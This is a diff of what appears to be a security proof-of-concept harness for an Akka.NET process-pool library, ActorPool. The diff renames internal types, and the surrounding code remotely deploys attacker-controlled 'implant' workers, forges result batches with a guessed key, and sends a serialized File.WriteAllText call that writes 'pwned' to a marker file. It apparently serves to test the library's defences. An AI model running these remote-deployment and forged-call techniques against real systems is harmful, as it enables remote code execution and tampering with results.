@@ -41,11 +41,11 @@ static async Task<int> Deploy(string marker, string[] addresses)
     var registered = new TaskCompletionSource<string>(TaskCreationOptions.RunContinuationsAsynchronously);
     var listener = system.ActorOf(Props.Create(() => new Listener(registered)), "listener");
     var listenerPath = listener.Path.ToStringWithAddress(((ExtendedActorSystem)system).Provider.DefaultAddress);
-    var workerType = Internal("ActorPool.Remoting.ProcessWorker");
+    var workerType = Internal("ActorPool.WorkerProcess.CallRunner");
     var implants = new List<IActorRef>();
     foreach (var address in addresses)
     {
-        // ProcessWorker(parentPath, secret, replyKey, initializer, maxPayload, registrationToken, allowList, board): ours to choose.
+        // CallRunner(parentPath, secret, replyKey, initializer, maxPayload, registrationToken, allowList, board): ours to choose.
         var props = Props.Create(workerType, listenerPath, "attacker-secret", "attacker-key", null, 1L << 20, null, null, null)
             .WithDeploy(new Deploy(new RemoteScope(Address.Parse(address))));
         implants.Add(system.ActorOf(props));
@@ -103,14 +103,14 @@ static async Task<int> Forge(string proxy, string worker, int value)
 {
     using var system = ActorSystem.Create("attacker", SystemConfig(proxy));
     var provider = ((ExtendedActorSystem)system).Provider;
-    var itemType = Internal("ActorPool.Remoting.ResultItem");
+    var itemType = Internal("ActorPool.Wire.ResultItem");
     var items = Array.CreateInstance(itemType, 16);
     for (var id = 1; id <= 16; id++)
     {
         items.SetValue(Activator.CreateInstance(itemType, (long)id, JsonSerializer.SerializeToUtf8Bytes(value), null, false), id - 1);
     }
 
-    var batch = Activator.CreateInstance(Internal("ActorPool.Remoting.ResultBatch"), "a-guessed-key", items)!;
+    var batch = Activator.CreateInstance(Internal("ActorPool.Wire.ResultBatch"), "a-guessed-key", items)!;
     provider.ResolveActorRef(proxy).Tell(batch, provider.ResolveActorRef(worker));
     await Task.Delay(TimeSpan.FromSeconds(3));
     Console.WriteLine("sent");
@@ -177,10 +177,10 @@ static int Garbage(int port)
 // A call of File.WriteAllText(marker, "pwned") as ActorPool encodes one, with the attacker's own secret.
 static object WriteFileCall(string marker)
 {
-    var describe = Internal("ActorPool.Remoting.CallDescriptor").GetMethod("For", BindingFlags.Public | BindingFlags.Static)!;
+    var describe = Internal("ActorPool.Wire.CallDescriptor").GetMethod("For", BindingFlags.Public | BindingFlags.Static)!;
     var descriptor = describe.Invoke(null, [(Action<string, string>)File.WriteAllText, "fn"]);
     byte[][] arguments = [JsonSerializer.SerializeToUtf8Bytes(marker), JsonSerializer.SerializeToUtf8Bytes("pwned")];
-    return Activator.CreateInstance(Internal("ActorPool.Remoting.CallItem"), "attacker-secret", 1L, descriptor, false, arguments, -1)!;
+    return Activator.CreateInstance(Internal("ActorPool.Wire.CallItem"), "attacker-secret", 1L, descriptor, false, arguments, -1)!;
 }
 
 static Type Internal(string name) => typeof(ActorPool.Executor).Assembly.GetType(name, throwOnError: true)!;
@@ -194,11 +194,11 @@ static Config SystemConfig(string address)
         akka.loglevel = ERROR
         akka.stdout-loglevel = ERROR
         akka.actor.provider = remote
-        akka.actor.serializers.actorpool = "ActorPool.Remoting.ProtocolSerializer, ActorPool"
-        akka.actor.serialization-bindings { "ActorPool.Remoting.IProcessPoolMessage, ActorPool" = actorpool }
+        akka.actor.serializers.actorpool = "ActorPool.Wire.ProtocolSerializer, ActorPool"
+        akka.actor.serialization-bindings { "ActorPool.Wire.IProcessPoolMessage, ActorPool" = actorpool }
         akka.remote.enabled-transports = [{{(loopback ? "\"akka.remote.loopback\"" : "\"akka.remote.dot-netty.tcp\"")}}]
         akka.remote.loopback {
-          transport-class = "ActorPool.Remoting.LoopbackTransport, ActorPool"
+          transport-class = "ActorPool.Transport.Loopback.LoopbackTransport, ActorPool"
           applied-adapters = []
           hostname = "127.0.0.1"
           port = 0
